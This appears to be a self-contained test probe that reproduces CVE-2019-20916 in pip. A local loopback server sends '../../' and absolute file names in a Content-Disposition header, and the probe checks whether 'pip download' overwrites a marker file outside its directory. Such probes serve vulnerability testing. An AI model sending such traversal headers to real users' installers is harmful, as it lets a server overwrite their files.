# /// vertice-probe
# id = "PYSEC-2020-173"
# aliases = ["CVE-2019-20916", "GHSA-gpvv-69j7-gwj8"]
# package = "pip"
# summary = "The file name in the header of a downloaded URL is used as a path, so the server overwrites files."
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:H/A:N" }]
# cwe = ["CWE-22"]
# kind = "traversal"
# symbols = ["pip", "pip._internal.main"]
#
# [[affected]]
# package = "pip"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "19.2" }] }]
#
# [cases]
# attack = "pip download of a loopback URL whose answer names ../ replaces a marker beside the temporary directories"
# [cases.variants]
# absolute = "the same with an absolute path as file name"
# [cases.controls]
# plain_name = "a wheel with a plain file name in the header is downloaded under that name"
#
# [test]
# vulnerable = "19.1.1"
# fixed = "19.2"
# python = ">=3.7,<3.12"
# ///
"""CVE-2019-20916: paths in Content-Disposition of a package download."""

import collections
import collections.abc
import contextlib
import http.server
import io
import json
import os
import runpy
import sys
import tempfile
import threading
import warnings
import zipfile

warnings.simplefilter("ignore")
BASE = tempfile.mkdtemp()
TEMPORARY = os.path.join(BASE, "tmp")
OUT = os.path.join(BASE, "out")
WHEEL = "shop_x-1.0-py3-none-any.whl"
OTHER = "other-1.0-py3-none-any.whl"


def wheel():
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as package:
        package.writestr("shop_x.py", "")
        package.writestr("shop_x-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: shop-x\nVersion: 1.0\n")
        package.writestr("shop_x-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        package.writestr("shop_x-1.0.dist-info/RECORD", "")
    return data.getvalue()


def download(name):
    """(requests served, pip's words) of `pip download URL`, the server calling the file `name`."""
    body, served = wheel(), []

    class Files(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            served.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "application/zip")
            self.send_header("Content-Length", str(len(body)))
            self.send_header("Content-Disposition", 'attachment; filename="%s"' % name)
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Files)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    os.mkdir(TEMPORARY)
    os.mkdir(OUT)
    os.environ.update(TMPDIR=TEMPORARY, HOME=BASE, PIP_CONFIG_FILE=os.devnull)
    tempfile.tempdir = None
    for moved in ("Mapping", "MutableMapping", "Sequence"):  # looked for where they were until Python 3.9
        if not hasattr(collections, moved):
            setattr(collections, moved, getattr(collections.abc, moved))
    url = "http://127.0.0.1:%d/files/%s" % (server.server_address[1], WHEEL)
    options = [
        "--isolated",
        "--disable-pip-version-check",
        "--no-cache-dir",
        "--no-deps",
        "--no-index",
        "--retries",
        "0",
    ]
    sys.argv = ["pip", "download"] + options + ["-d", OUT, url]
    words = io.StringIO()
    with contextlib.redirect_stdout(words), contextlib.redirect_stderr(words):
        try:
            runpy.run_module("pip", run_name="__main__", alter_sys=True)
        except SystemExit:
            pass
    return served, words.getvalue()


def look(name, marker):
    with open(marker, "w") as out:
        out.write("mine")
    served, words = download(name)
    # pip moves what it has written there away again, so the file of that name is gone
    if not os.path.exists(marker):
        return "exploited", "the download replaced a file outside the temporary directory"
    with open(marker) as text:
        if text.read() != "mine":
            return "exploited", "the download overwrote a file outside the temporary directory"
    if not served:
        return "error", "nothing was downloaded: %s" % words[-300:]
    if not os.listdir(OUT):
        return "error", "the download was not kept: %s" % words[-300:]
    return "blocked", "the download was kept as %s, the marker outside is untouched" % os.listdir(OUT)[0]


def attack():
    return look("../../" + OTHER, os.path.join(BASE, OTHER))


def absolute():
    marker = os.path.join(BASE, OTHER)
    return look(marker, marker)


def plain_name():
    _, words = download(WHEEL)
    got = os.listdir(OUT)
    return ("works", "downloaded as %s" % WHEEL) if got == [WHEEL] else ("broken", "%r %s" % (got, words[-300:]))


CASES = {"attack": attack, "absolute": absolute, "plain_name": plain_name}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
